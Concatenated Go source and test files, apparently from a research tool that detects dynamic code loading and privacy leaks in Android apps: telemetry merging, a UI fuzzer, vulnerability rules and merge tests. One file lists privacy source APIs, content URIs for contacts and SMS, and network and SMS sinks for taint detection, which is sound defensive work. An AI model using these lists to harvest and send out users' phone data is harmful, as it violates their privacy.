	if dst.Version != SnapshotVersion || src.Version != SnapshotVersion {
		return fmt.Errorf("telemetry: snapshot version mismatch (have %d and %d, want %d)",
			dst.Version, src.Version, SnapshotVersion)
	}
	dst.Shards += src.Shards
	dst.Apps += src.Apps
	dst.Errors += src.Errors
	if dst.Counters == nil {
		dst.Counters = make(map[string]int64, len(src.Counters))
	}
	for k, v := range src.Counters {
		dst.Counters[k] += v
	}
	if dst.Stages == nil {
		dst.Stages = make(map[string]*Hist, len(src.Stages))
	}
	for name, h := range src.Stages {
		if cur, ok := dst.Stages[name]; ok {
			cur.Merge(h)
		} else {
			cp := *h
			cp.Buckets = append([]int64(nil), h.Buckets...)
			dst.Stages[name] = &cp
		}
	}
	if dst.Costs == nil && len(src.Costs) > 0 {
		dst.Costs = make(map[string]*StageCost, len(src.Costs))
	}
	for name, sc := range src.Costs {
		if cur, ok := dst.Costs[name]; ok {
			cur.Count += sc.Count
			cur.CPUNS += sc.CPUNS
			cur.AllocBytes += sc.AllocBytes
			cur.AllocObjects += sc.AllocObjects
		} else {
			cp := *sc
			dst.Costs[name] = &cp
		}
	}
	dst.TopEntities.Merge(src.TopEntities)
	dst.SlowestApps.Merge(src.SlowestApps)
	dst.RecentDCL.Merge(src.RecentDCL)
	dst.RecentErrors.Merge(src.RecentErrors)
	dst.Events.Merge(src.Events)
	if src.SLO != nil {
		if dst.SLO == nil {
			dst.SLO = src.SLO.clone()
		} else {
			dst.SLO.Merge(src.SLO)
		}
	}
	return nil
}

// WriteFile atomically persists the snapshot as indented JSON.
func (s *Snapshot) WriteFile(path string) error {
	raw, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return fmt.Errorf("telemetry: %w", err)
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, append(raw, '\n'), 0o644); err != nil {
		return fmt.Errorf("telemetry: %w", err)
	}
	if err := os.Rename(tmp, path); err != nil {
		os.Remove(tmp)
		return fmt.Errorf("telemetry: %w", err)
	}
	return nil
}

// ReadSnapshot loads a snapshot written by WriteFile and validates its
// version.
func ReadSnapshot(path string) (*Snapshot, error) {
	raw, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("telemetry: %w", err)
	}
	s := new(Snapshot)
	if err := json.Unmarshal(raw, s); err != nil {
		return nil, fmt.Errorf("telemetry: %s: %w", path, err)
	}
	if s.Version != SnapshotVersion {
		return nil, fmt.Errorf("telemetry: %s: snapshot version %d, want %d", path, s.Version, SnapshotVersion)
	}
	return s, nil
}

// Hist is a mergeable duration distribution over the exponential bucket
// scheme of internal/metrics (bucket i covers (1µs·2^(i-1), 1µs·2^i]).
// Trailing empty buckets are trimmed in the serialized form; Merge and
// Observe handle the ragged lengths.
type Hist struct {
	Buckets []int64 `json:"buckets,omitempty"`
	Count   int64   `json:"count"`
	SumNS   int64   `json:"sum_ns"`
	MinNS   int64   `json:"min_ns"`
	MaxNS   int64   `json:"max_ns"`
}

// Observe folds one duration into the distribution.
func (h *Hist) Observe(d time.Duration) {
	if d < 0 {
		d = 0
	}
	i := metrics.BucketOf(d)
	for len(h.Buckets) <= i {
		h.Buckets = append(h.Buckets, 0)
	}
	h.Buckets[i]++
	h.Count++
	h.SumNS += int64(d)
	if h.Count == 1 || int64(d) < h.MinNS {
		h.MinNS = int64(d)
	}
	if int64(d) > h.MaxNS {
		h.MaxNS = int64(d)
	}
}

// Merge adds o's observations into h, bucket for bucket.
func (h *Hist) Merge(o *Hist) {
	if o == nil || o.Count == 0 {
		return
	}
	for len(h.Buckets) < len(o.Buckets) {
		h.Buckets = append(h.Buckets, 0)
	}
	for i, n := range o.Buckets {
		h.Buckets[i] += n
	}
	if h.Count == 0 || o.MinNS < h.MinNS {
		h.MinNS = o.MinNS
	}
	if o.MaxNS > h.MaxNS {
		h.MaxNS = o.MaxNS
	}
	h.Count += o.Count
	h.SumNS += o.SumNS
}

// Mean is the average observed duration.
func (h *Hist) Mean() time.Duration {
	if h.Count == 0 {
		return 0
	}
	return time.Duration(h.SumNS / h.Count)
}

// Quantile returns the upper bound of the bucket holding the q-th
// observation, clamped to the observed extremes (the same estimator as
// the metrics registry's histograms).
func (h *Hist) Quantile(q float64) time.Duration {
	if h.Count == 0 {
		return 0
	}
	rank := int64(q * float64(h.Count))
	if rank < 1 {
		rank = 1
	}
	var cum int64
	for i, n := range h.Buckets {
		cum += n
		if cum >= rank {
			b := metrics.BucketBound(i)
			if int64(b) > h.MaxNS {
				b = time.Duration(h.MaxNS)
			}
			if int64(b) < h.MinNS {
				b = time.Duration(h.MinNS)
			}
			return b
		}
	}
	return time.Duration(h.MaxNS)
}

// StageCost is the mergeable resource bill of one pipeline stage:
// how many metered spans were observed and the summed CPU-time and
// allocation deltas across them. Deltas are process-scoped, so under
// concurrent workers they are an upper bound per stage; ratios between
// stages remain comparable because every stage is measured identically.
type StageCost struct {
	Count        int64 `json:"count"`
	CPUNS        int64 `json:"cpu_ns"`
	AllocBytes   int64 `json:"alloc_bytes"`
	AllocObjects int64 `json:"alloc_objects"`
}

// TopEntry is one tracked key of a TopK sketch.
type TopEntry struct {
	Key   string `json:"key"`
	Count int64  `json:"count"`
	// Err bounds the overcount of Count introduced by space-saving
	// evictions (0 while the sketch has never overflowed — counts are
	// then exact).
	Err int64 `json:"err,omitempty"`
}

// TopK is a space-saving heavy-hitters sketch: at most K keys are
// tracked; inserting a new key into a full sketch evicts the smallest
// tracked key and inherits its count (the classic Metwally et al.
// construction). While distinct keys never exceed K the counts are exact
// and merging shards reproduces the single-pass sketch bit for bit.
type TopK struct {
	K       int        `json:"k"`
	Entries []TopEntry `json:"entries,omitempty"`
}

// Observe counts one occurrence of key.
func (t *TopK) Observe(key string) {
	for i := range t.Entries {
		if t.Entries[i].Key == key {
			t.Entries[i].Count++
			t.normalize()
			return
		}
	}
	if len(t.Entries) < t.K {
		t.Entries = append(t.Entries, TopEntry{Key: key, Count: 1})
		t.normalize()
		return
	}
	// Full: replace the minimum (deterministically the last entry after
	// normalize) and inherit its count as the new key's error bound.
	min := t.Entries[len(t.Entries)-1]
	t.Entries[len(t.Entries)-1] = TopEntry{Key: key, Count: min.Count + 1, Err: min.Count}
	t.normalize()
}

// Merge folds o into t: counts and error bounds sum over the key union,
// then the sketch keeps the max(t.K, o.K) largest keys; the dropped tail
// is discarded (its mass is bounded by the surviving minimum).
func (t *TopK) Merge(o TopK) {
	if o.K > t.K {
		t.K = o.K
	}
	byKey := make(map[string]TopEntry, len(t.Entries)+len(o.Entries))
	for _, e := range t.Entries {
		byKey[e.Key] = e
	}
	for _, e := range o.Entries {
		cur := byKey[e.Key]
		cur.Key = e.Key
		cur.Count += e.Count
		cur.Err += e.Err
		byKey[e.Key] = cur
	}
	t.Entries = t.Entries[:0]
	for _, e := range byKey {
		t.Entries = append(t.Entries, e)
	}
	t.normalize()
	if len(t.Entries) > t.K {
		t.Entries = t.Entries[:t.K]
	}
}

// normalize sorts entries by count desc, then key asc — the canonical
// serialized order, which also keeps eviction deterministic.
func (t *TopK) normalize() {
	sort.Slice(t.Entries, func(i, j int) bool {
		if t.Entries[i].Count != t.Entries[j].Count {
			return t.Entries[i].Count > t.Entries[j].Count
		}
		return t.Entries[i].Key < t.Entries[j].Key
	})
}

// SlowApp is one entry of the slowest-analyses list.
type SlowApp struct {
	Package string `json:"package"`
	Digest  string `json:"digest,omitempty"`
	NS      int64  `json:"ns"`
}

// TopApps keeps the K slowest analyses. Selection by a total order is
// exactly mergeable: the K slowest of a union are always among the
// per-shard K slowest.
type TopApps struct {
	K       int       `json:"k"`
	Entries []SlowApp `json:"entries,omitempty"`
}

// Observe offers one analysis to the list.
func (t *TopApps) Observe(e SlowApp) {
	t.Entries = append(t.Entries, e)
	t.normalize()
}

// Merge folds o into t.
func (t *TopApps) Merge(o TopApps) {
	if o.K > t.K {
		t.K = o.K
	}
	t.Entries = append(t.Entries, o.Entries...)
	t.normalize()
}

func (t *TopApps) normalize() {
	sort.Slice(t.Entries, func(i, j int) bool {
		if t.Entries[i].NS != t.Entries[j].NS {
			return t.Entries[i].NS > t.Entries[j].NS
		}
		if t.Entries[i].Package != t.Entries[j].Package {
			return t.Entries[i].Package < t.Entries[j].Package
		}
		return t.Entries[i].Digest < t.Entries[j].Digest
	})
	if len(t.Entries) > t.K {
		t.Entries = t.Entries[:t.K]
	}
}

// ringItem orders ring entries newest-first with a deterministic total
// order, so ring merges (top-K selection by recency) stay associative.
type ringItem interface {
	ringKey() string
	ringTime() time.Time
}

// RecentDCL is one recent dynamic code loading event.
type RecentDCL struct {
	Time       time.Time `json:"time"`
	Package    string    `json:"package"`
	Kind       string    `json:"kind"`
	API        string    `json:"api"`
	Path       string    `json:"path"`
	Entity     string    `json:"entity"`
	Provenance string    `json:"provenance"`
	SourceURL  string    `json:"source_url,omitempty"`
}

func (e RecentDCL) ringTime() time.Time { return e.Time }
func (e RecentDCL) ringKey() string {
	return e.Package + "\x00" + e.Path + "\x00" + e.API + "\x00" + e.Kind
}

// RecentError is one recent analysis failure.
type RecentError struct {
	Time    time.Time `json:"time"`
	Package string    `json:"package"`
	Err     string    `json:"err"`
}

func (e RecentError) ringTime() time.Time { return e.Time }
func (e RecentError) ringKey() string     { return e.Package + "\x00" + e.Err }

// Ring is a bounded newest-first event list. Like TopApps it is a
// selection by total order (recency, then key), so merges are exact.
type Ring[E ringItem] struct {
	K       int `json:"k"`
	Entries []E `json:"entries,omitempty"`
}

// Observe offers one event to the ring.
func (r *Ring[E]) Observe(e E) {
	r.Entries = append(r.Entries, e)
	r.normalize()
}

// Merge folds o into r.
func (r *Ring[E]) Merge(o Ring[E]) {
	if o.K > r.K {
		r.K = o.K
	}
	r.Entries = append(r.Entries, o.Entries...)
	r.normalize()
}

func (r *Ring[E]) normalize() {
	sort.Slice(r.Entries, func(i, j int) bool {
		ti, tj := r.Entries[i].ringTime(), r.Entries[j].ringTime()
		if !ti.Equal(tj) {
			return ti.After(tj)
		}
		return r.Entries[i].ringKey() < r.Entries[j].ringKey()
	})
	if len(r.Entries) > r.K {
		r.Entries = r.Entries[:r.K]
	}
}
