package android

import "github.com/dydroid/dydroid/internal/dex"

// Category groups the 18 privacy data types of Table X into the paper's
// five categories.
type Category string

// Privacy categories (paper §III-C).
const (
	CatLocation        Category = "L"
	CatPhoneIdentity   Category = "PI"
	CatUserIdentity    Category = "UI"
	CatUsagePattern    Category = "UP"
	CatContentProvider Category = "CP"
)

// DataType is one of the 18 privacy-sensitive data types of Table X.
type DataType string

// The 18 data types measured in Table X.
const (
	DTLocation      DataType = "Location"
	DTIMEI          DataType = "IMEI"
	DTIMSI          DataType = "IMSI"
	DTICCID         DataType = "ICCID"
	DTPhoneNumber   DataType = "Phone number"
	DTAccount       DataType = "Account"
	DTInstalledApps DataType = "Installed applications"
	DTInstalledPkgs DataType = "Installed packages"
	DTContact       DataType = "Contact"
	DTCalendar      DataType = "Calendar"
	DTCallLog       DataType = "CallLog"
	DTBrowser       DataType = "Browser"
	DTAudio         DataType = "Audio"
	DTImage         DataType = "Image"
	DTVideo         DataType = "Video"
	DTSettings      DataType = "Settings"
	DTMMS           DataType = "MMS"
	DTSMS           DataType = "SMS"
)

// AllDataTypes lists every data type in Table X row order.
var AllDataTypes = []DataType{
	DTLocation, DTIMEI, DTIMSI, DTICCID, DTPhoneNumber, DTAccount,
	DTInstalledApps, DTInstalledPkgs, DTContact, DTCalendar, DTCallLog,
	DTBrowser, DTAudio, DTImage, DTVideo, DTSettings, DTMMS, DTSMS,
}

// CategoryOf maps each data type to its category.
var CategoryOf = map[DataType]Category{
	DTLocation:      CatLocation,
	DTIMEI:          CatPhoneIdentity,
	DTIMSI:          CatPhoneIdentity,
	DTICCID:         CatPhoneIdentity,
	DTPhoneNumber:   CatUserIdentity,
	DTAccount:       CatUserIdentity,
	DTInstalledApps: CatUsagePattern,
	DTInstalledPkgs: CatUsagePattern,
	DTContact:       CatContentProvider,
	DTCalendar:      CatContentProvider,
	DTCallLog:       CatContentProvider,
	DTBrowser:       CatContentProvider,
	DTAudio:         CatContentProvider,
	DTImage:         CatContentProvider,
	DTVideo:         CatContentProvider,
	DTSettings:      CatContentProvider,
	DTMMS:           CatContentProvider,
	DTSMS:           CatContentProvider,
}

// SourceAPIs maps privacy-source framework methods to the data type they
// yield. For the L/PI/UI/UP categories the taint analysis treats an invoke
// of these methods as a source (paper §III-C).
var SourceAPIs = map[dex.MethodRef]DataType{
	{Class: "android.location.LocationManager", Name: "getLastKnownLocation",
		Sig: "(Ljava/lang/String;)Landroid/location/Location;"}: DTLocation,
	{Class: "android.telephony.TelephonyManager", Name: "getDeviceId",
		Sig: "()Ljava/lang/String;"}: DTIMEI,
	{Class: "android.telephony.TelephonyManager", Name: "getSubscriberId",
		Sig: "()Ljava/lang/String;"}: DTIMSI,
	{Class: "android.telephony.TelephonyManager", Name: "getSimSerialNumber",
		Sig: "()Ljava/lang/String;"}: DTICCID,
	{Class: "android.telephony.TelephonyManager", Name: "getLine1Number",
		Sig: "()Ljava/lang/String;"}: DTPhoneNumber,
	{Class: "android.accounts.AccountManager", Name: "getAccounts",
		Sig: "()[Landroid/accounts/Account;"}: DTAccount,
	{Class: "android.content.pm.PackageManager", Name: "getInstalledApplications",
		Sig: "(I)Ljava/util/List;"}: DTInstalledApps,
	{Class: "android.content.pm.PackageManager", Name: "getInstalledPackages",
		Sig: "(I)Ljava/util/List;"}: DTInstalledPkgs,
}

// ProviderURIs maps content-provider URIs to data types; a
// ContentResolver.query whose URI argument carries one of these constants
// is a source (paper §III-C: "Content provider is identified by URI").
var ProviderURIs = map[string]DataType{
	"content://contacts":              DTContact,
	"content://com.android.calendar":  DTCalendar,
	"content://call_log/calls":        DTCallLog,
	"content://browser/bookmarks":     DTBrowser,
	"content://media/external/audio":  DTAudio,
	"content://media/external/images": DTImage,
	"content://media/external/video":  DTVideo,
	"content://settings":              DTSettings,
	"content://mms":                   DTMMS,
	"content://sms":                   DTSMS,
}

// ResolverQuery is the content-resolver query method whose URI argument is
// matched against ProviderURIs.
var ResolverQuery = dex.MethodRef{
	Class: "android.content.ContentResolver", Name: "query",
	Sig: "(Landroid/net/Uri;)Landroid/database/Cursor;",
}

// SinkAPIs is the SuSi-style sink list: methods through which tainted data
// leaves the app.
var SinkAPIs = map[dex.MethodRef]bool{
	{Class: "java.net.HttpURLConnection", Name: "write",
		Sig: "(Ljava/lang/String;)V"}: true,
	{Class: "org.apache.http.impl.client.DefaultHttpClient", Name: "execute",
		Sig: "(Ljava/lang/String;)V"}: true,
	{Class: "android.telephony.SmsManager", Name: "sendTextMessage",
		Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}: true,
	{Class: "android.util.Log", Name: "i",
		Sig: "(Ljava/lang/String;Ljava/lang/String;)V"}: true,
	{Class: "java.io.OutputStream", Name: "writeString",
		Sig: "(Ljava/lang/String;)V"}: true,
}

// IsSink reports whether the invoked method is a sink.
func IsSink(ref dex.MethodRef) bool { return SinkAPIs[ref] }

// SourceType returns the data type produced by the method, if it is a
// source API.
func SourceType(ref dex.MethodRef) (DataType, bool) {
	dt, ok := SourceAPIs[ref]
	return dt, ok
}

// ProviderType returns the data type guarded by the content URI, matching
// by prefix (real queries append paths like /people to the authority).
func ProviderType(uri string) (DataType, bool) {
	for prefix, dt := range ProviderURIs {
		if uri == prefix || (len(uri) > len(prefix) && uri[:len(prefix)] == prefix && uri[len(prefix)] == '/') {
			return dt, true
		}
	}
	return "", false
}
