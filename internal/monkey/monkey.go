// Package monkey implements the UI/Application exerciser that drives apps
// during dynamic analysis — the analogue of Android's Monkey fuzzer the
// paper runs on top of its instrumented device. A deterministic seeded
// event stream launches the app and fires random UI callbacks; the paper's
// observation (and MAdScope's) that ad-library DCL triggers at launch
// means even modest budgets reach the loading code.
package monkey

import (
	"errors"
	"math/rand"

	"github.com/dydroid/dydroid/internal/vm"
)

// Outcome classifies one exercise run.
type Outcome string

// Exercise outcomes; these map onto the failure rows of Table II.
const (
	// OutcomeExercised means the app launched and the event budget ran.
	OutcomeExercised Outcome = "exercised"
	// OutcomeNoActivity means the fuzzer had no activity to drive.
	OutcomeNoActivity Outcome = "no-activity"
	// OutcomeCrash means the app crashed during launch or a callback.
	OutcomeCrash Outcome = "crash"
)

// Result reports one run.
type Result struct {
	Outcome     Outcome
	EventsFired int
	// Err holds the crash cause when Outcome is OutcomeCrash.
	Err error
}

// Exercise launches the app on the VM and fires up to budget random UI
// callbacks using the seeded generator. A crash during a callback ends the
// run (the process died); the events fired up to that point are reported.
func Exercise(m *vm.VM, budget int, seed int64) Result {
	activity, err := m.LaunchApp()
	if err != nil {
		if errors.Is(err, vm.ErrNoActivity) {
			return Result{Outcome: OutcomeNoActivity, Err: err}
		}
		return Result{Outcome: OutcomeCrash, Err: err}
	}
	callbacks := m.Callbacks(activity)
	if len(callbacks) == 0 {
		return Result{Outcome: OutcomeExercised}
	}
	rng := rand.New(rand.NewSource(seed))
	fired := 0
	for i := 0; i < budget; i++ {
		cb := callbacks[rng.Intn(len(callbacks))]
		if err := m.FireCallback(activity, cb); err != nil {
			return Result{Outcome: OutcomeCrash, EventsFired: fired, Err: err}
		}
		fired++
	}
	return Result{Outcome: OutcomeExercised, EventsFired: fired}
}
