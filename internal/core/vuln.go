package core

import "github.com/dydroid/dydroid/internal/android"

// AnalyzeVulnerabilities applies the Table IX rules to the logged DCL
// events:
//
//   - a load from external storage is a code-injection risk when the app
//     supports OS versions below 4.4 (minSdkVersion < 19), where any app
//     can rewrite the file;
//   - a load from the private internal storage of another application
//     trusts a file the developer does not control (the Adobe AIR
//     libCore.so pattern).
//
// System-library loads are exempt.
func AnalyzeVulnerabilities(appPkg string, minSDK int, events []*DCLEvent) []Vulnerability {
	var out []Vulnerability
	seen := make(map[Vulnerability]bool)
	add := func(v Vulnerability) {
		if !seen[v] {
			seen[v] = true
			out = append(out, v)
		}
	}
	for _, ev := range events {
		if ev.SystemLib {
			continue
		}
		switch {
		case android.IsExternal(ev.Path):
			if minSDK < android.KitKatAPILevel {
				add(Vulnerability{Kind: VulnExternalStorage, Code: ev.Kind, Path: ev.Path})
			}
		default:
			owner := android.OwnerOfInternalPath(ev.Path)
			if owner != "" && owner != appPkg {
				add(Vulnerability{
					Kind: VulnOtherAppInternal, Code: ev.Kind,
					Path: ev.Path, OwnerPackage: owner,
				})
			}
		}
	}
	return out
}
