package experiments

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/trace"
)

// TestRunStageQuantilesFromTraces: a healthy run carries exact per-span
// quantiles sourced from the collected traces, one "app" root per app.
func TestRunStageQuantilesFromTraces(t *testing.T) {
	res := small(t)
	st := res.RunStats
	if len(st.StageQuantiles) == 0 {
		t.Fatal("no stage quantiles collected")
	}
	for _, span := range []string{"app", "analyze", "unpack", "dynamic", "static", "replay"} {
		q, ok := st.StageQuantiles[span]
		if !ok || q.Count == 0 {
			t.Fatalf("span %q missing from quantiles: %+v", span, st.StageQuantiles)
		}
		if q.P50 <= 0 || q.P50 > q.P95 || q.P95 > q.P99 {
			t.Fatalf("span %q quantiles not monotone: %+v", span, q)
		}
	}
	if got, want := st.StageQuantiles["app"].Count, st.Apps; got != want {
		t.Fatalf("app span count = %d, want %d", got, want)
	}
	// Four replay configs per malware-flagged app.
	if got := st.StageQuantiles["replay"].Count; got%4 != 0 || got <= 0 || got > 4*st.Apps {
		t.Fatalf("replay span count = %d, want positive multiple of 4 <= %d", got, 4*st.Apps)
	}
	out := st.String()
	for _, want := range []string{"trace quantiles", "slowest apps:"} {
		if !strings.Contains(out, want) {
			t.Fatalf("RunStats rendering missing %q:\n%s", want, out)
		}
	}
}

// TestRunKeepsSlowestTraces: the runner retains a bounded, sorted list of
// the slowest app traces, each rooted at a span covering the whole app.
func TestRunKeepsSlowestTraces(t *testing.T) {
	res := small(t)
	slow := res.RunStats.Slowest
	if len(slow) == 0 {
		t.Fatal("no slow traces kept")
	}
	if len(slow) > 5 {
		t.Fatalf("kept %d traces, want <= default 5", len(slow))
	}
	for i, s := range slow {
		if s.Package == "" || s.Trace == nil || s.Trace.Root == nil {
			t.Fatalf("slow entry %d incomplete: %+v", i, s)
		}
		if s.Trace.Root.Name != "app" {
			t.Fatalf("slow entry %d root span = %q, want app", i, s.Trace.Root.Name)
		}
		if s.Total != s.Trace.Root.Duration() {
			t.Fatalf("slow entry %d total %s != root duration %s", i, s.Total, s.Trace.Root.Duration())
		}
		if i > 0 && s.Total > slow[i-1].Total {
			t.Fatalf("slow traces not sorted: %s > %s at %d", s.Total, slow[i-1].Total, i)
		}
	}
}

// TestRunWritesTraceDir: with TraceDir set, the run persists the kept
// traces as JSONL and the RunStats block as JSON, both round-trippable.
func TestRunWritesTraceDir(t *testing.T) {
	dir := t.TempDir()
	res, err := Run(Config{Seed: 17, Scale: 0.002, Workers: 2, TraceDir: dir, SlowTraces: 3})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(res.RunStats.Slowest) == 0 || len(res.RunStats.Slowest) > 3 {
		t.Fatalf("Slowest = %d entries, want 1..3", len(res.RunStats.Slowest))
	}

	f, err := os.Open(filepath.Join(dir, "traces.jsonl"))
	if err != nil {
		t.Fatalf("traces.jsonl: %v", err)
	}
	defer f.Close()
	traces, err := trace.DecodeJSONL(f)
	if err != nil {
		t.Fatalf("DecodeJSONL: %v", err)
	}
	if len(traces) != len(res.RunStats.Slowest) {
		t.Fatalf("persisted %d traces, want %d", len(traces), len(res.RunStats.Slowest))
	}
	for i, tr := range traces {
		if tr.Root == nil || tr.Root.Name != "app" {
			t.Fatalf("trace %d has no app root", i)
		}
		if tr.Root.Duration() <= 0 {
			t.Fatalf("trace %d root duration = %s", i, tr.Root.Duration())
		}
	}

	raw, err := os.ReadFile(filepath.Join(dir, "runstats.json"))
	if err != nil {
		t.Fatalf("runstats.json: %v", err)
	}
	var st RunStats
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatalf("runstats.json decode: %v", err)
	}
	if st.Apps != res.RunStats.Apps || len(st.StageQuantiles) == 0 {
		t.Fatalf("persisted RunStats incomplete: apps=%d quantiles=%d", st.Apps, len(st.StageQuantiles))
	}
}

// TestQuantileExact pins the nearest-rank definition.
func TestQuantileExact(t *testing.T) {
	durs := []time.Duration{1, 2, 3, 4, 5, 6, 7, 8, 9, 10}
	cases := []struct {
		q    float64
		want time.Duration
	}{
		{0.50, 5}, {0.95, 10}, {0.99, 10}, {0.10, 1}, {1.0, 10},
	}
	for _, c := range cases {
		if got := quantileExact(durs, c.q); got != c.want {
			t.Fatalf("quantileExact(q=%v) = %d, want %d", c.q, got, c.want)
		}
	}
	if got := quantileExact(nil, 0.5); got != 0 {
		t.Fatalf("quantileExact(nil) = %d, want 0", got)
	}
}
