package telemetry

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/trace"
)

// synthApp builds one deterministic pseudo-random analysis result plus
// its trace. The entity pool stays well under the top-K capacity so the
// space-saving sketch is in its exact regime (the documented condition
// for shard merges to reproduce the single-pass aggregate bit for bit).
func synthApp(rng *rand.Rand, i int) (*core.AppResult, *trace.Trace) {
	statuses := []core.Status{
		core.StatusExercised, core.StatusExercised, core.StatusExercised,
		core.StatusNoDCL, core.StatusCrash, core.StatusUnpackFailure,
	}
	entities := []core.Entity{core.EntityOwn, core.EntityThirdParty, core.EntityUnknown}
	provs := []core.Provenance{core.ProvenanceLocal, core.ProvenanceLocal, core.ProvenanceRemote}
	apis := []string{"DexClassLoader", "PathClassLoader", "System.load", "System.loadLibrary"}
	sdks := []string{"com.sdk.ads", "com.sdk.push", "com.sdk.pay", "com.sdk.track", "com.sdk.social"}

	res := &core.AppResult{
		Package: fmt.Sprintf("com.synth.app%04d", i),
		Status:  statuses[rng.Intn(len(statuses))],
	}
	res.PreFilter.HasDexDCL = rng.Intn(2) == 0
	res.PreFilter.HasNativeDCL = rng.Intn(3) == 0
	res.Obfuscation.Lexical = rng.Intn(2) == 0
	res.Obfuscation.DEXEncryption = rng.Intn(4) == 0
	for e := 0; e < rng.Intn(4); e++ {
		kind := core.KindDex
		api := apis[rng.Intn(2)]
		if rng.Intn(3) == 0 {
			kind = core.KindNative
			api = apis[2+rng.Intn(2)]
		}
		ent := entities[rng.Intn(len(entities))]
		call := res.Package + ".Main"
		if ent == core.EntityThirdParty {
			call = sdks[rng.Intn(len(sdks))] + ".Loader"
		}
		prov := provs[rng.Intn(len(provs))]
		ev := &core.DCLEvent{
			Kind: kind, API: api, Path: fmt.Sprintf("/data/app%d/%d.bin", i, e),
			CallSite: call, Entity: ent, Provenance: prov,
		}
		if prov == core.ProvenanceRemote {
			ev.SourceURL = fmt.Sprintf("http://cdn%d.example/p.bin", rng.Intn(3))
		}
		res.Events = append(res.Events, ev)
	}
	if rng.Intn(5) == 0 {
		res.Malware = append(res.Malware, core.MalwareHit{
			Path: "/data/m.dex", Kind: core.KindDex,
			Family: []string{"dowgin", "kuguo", "secapk"}[rng.Intn(3)], Score: 0.8,
		})
	}
	base := time.Date(2026, 8, 1, 0, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Second)
	total := time.Duration(1+rng.Intn(5000)) * 100 * time.Microsecond
	return res, appTrace(fmt.Sprintf("%04x", i), base, total, total*3/4)
}

// ingest aggregates the index range [lo, hi) of the synthetic corpus.
// Each range re-derives its apps from a per-app seed, so any partition
// sees exactly the data of the full pass.
func ingest(t *testing.T, lo, hi int) *Snapshot {
	t.Helper()
	a := New(Options{})
	for i := lo; i < hi; i++ {
		rng := rand.New(rand.NewSource(int64(1000 + i)))
		res, tr := synthApp(rng, i)
		a.ObserveApp(res, tr)
		a.ObserveVerdict(i%3 != 0)
		if i%17 == 0 {
			a.ObserveError(res.Package, errFake("synthetic failure"), tr)
		}
	}
	return a.Snapshot()
}

// mustJSON serialises a snapshot with the shard count zeroed: a merge of
// three shard files legitimately reports Shards=3 where the single-pass
// union reports 1, and the property under test is about the aggregate
// data, not the provenance count.
func mustJSON(t *testing.T, s *Snapshot) string {
	t.Helper()
	c := *s
	c.Shards = 0
	raw, err := json.Marshal(&c)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

func mergeAll(t *testing.T, parts ...*Snapshot) *Snapshot {
	t.Helper()
	out := NewSnapshot(0, 0, 0)
	out.Shards = 0
	for _, p := range parts {
		if err := Merge(out, p); err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// TestMergeEqualsUnion is the core fleet-observatory property: splitting
// a corpus into shards, aggregating each shard independently and merging
// the shard snapshots yields exactly the snapshot of aggregating the
// whole corpus in one pass — commutatively and associatively.
func TestMergeEqualsUnion(t *testing.T) {
	const n = 120
	union := ingest(t, 0, n)
	a := ingest(t, 0, 40)
	b := ingest(t, 40, 90)
	c := ingest(t, 90, n)

	want := mustJSON(t, union)
	for name, got := range map[string]*Snapshot{
		"a+b+c":   mergeAll(t, a, b, c),
		"c+b+a":   mergeAll(t, c, b, a),
		"b+a+c":   mergeAll(t, b, a, c),
		"(a+b)+c": mergeAll(t, mergeAll(t, a, b), c),
		"a+(b+c)": mergeAll(t, a, mergeAll(t, b, c)),
	} {
		if g := mustJSON(t, got); g != want {
			t.Errorf("merge order %s diverges from single-pass union\n got: %.400s\nwant: %.400s", name, g, want)
		}
	}
}

// TestMergeCommutative checks pairwise commutativity on overlapping
// shard contents (the daemon + runner case: the same aggregate arriving
// from different shards).
func TestMergeCommutative(t *testing.T) {
	a := ingest(t, 0, 30)
	b := ingest(t, 10, 60) // overlaps a
	ab := mergeAll(t, a, b)
	ba := mergeAll(t, b, a)
	if mustJSON(t, ab) != mustJSON(t, ba) {
		t.Fatal("Merge(a, b) != Merge(b, a)")
	}
}

// TestMergeRejectsVersionSkew ensures mixed-binary fleets fail loudly.
func TestMergeRejectsVersionSkew(t *testing.T) {
	a := ingest(t, 0, 5)
	b := ingest(t, 5, 10)
	b.Version = SnapshotVersion + 1
	if err := Merge(a, b); err == nil {
		t.Fatal("merge accepted a snapshot with a different version")
	}
}

// TestMergeIdentity: merging an empty snapshot changes nothing but the
// shard count.
func TestMergeIdentity(t *testing.T) {
	a := ingest(t, 0, 25)
	empty := NewSnapshot(0, 0, 0)
	empty.Shards = 0
	merged := mergeAll(t, a, empty)
	want := mustJSON(t, a)
	if got := mustJSON(t, merged); got != want {
		t.Fatalf("identity merge diverged:\n got: %.300s\nwant: %.300s", got, want)
	}
}

// TestCostTableMergeEqualsSinglePass pins the attribution acceptance
// property specifically: the per-stage cost table rendered from two
// merged shards is byte-identical to the single-pass run's table.
func TestCostTableMergeEqualsSinglePass(t *testing.T) {
	union := ingest(t, 0, 80)
	merged := mergeAll(t, ingest(t, 0, 37), ingest(t, 37, 80))
	if len(union.Costs) == 0 {
		t.Fatal("synthetic corpus aggregated no stage costs")
	}
	sc := union.Costs["analyze"]
	if sc == nil || sc.Count == 0 || sc.CPUNS == 0 || sc.AllocBytes == 0 {
		t.Fatalf("analyze stage cost not aggregated: %+v", sc)
	}
	if got, want := merged.CostReport(), union.CostReport(); got != want {
		t.Fatalf("merged cost table diverges from single pass\n got:\n%s\nwant:\n%s", got, want)
	}
	gotJSON, _ := json.Marshal(merged.Costs)
	wantJSON, _ := json.Marshal(union.Costs)
	if string(gotJSON) != string(wantJSON) {
		t.Fatalf("merged Costs diverge:\n got: %s\nwant: %s", gotJSON, wantJSON)
	}
}
