package resultstore

import (
	"container/list"
	"encoding/json"
	"sync"
)

// lruCache is the in-memory front of the store: a bounded map of digest →
// record data with least-recently-used eviction.
type lruCache struct {
	mu    sync.Mutex
	cap   int
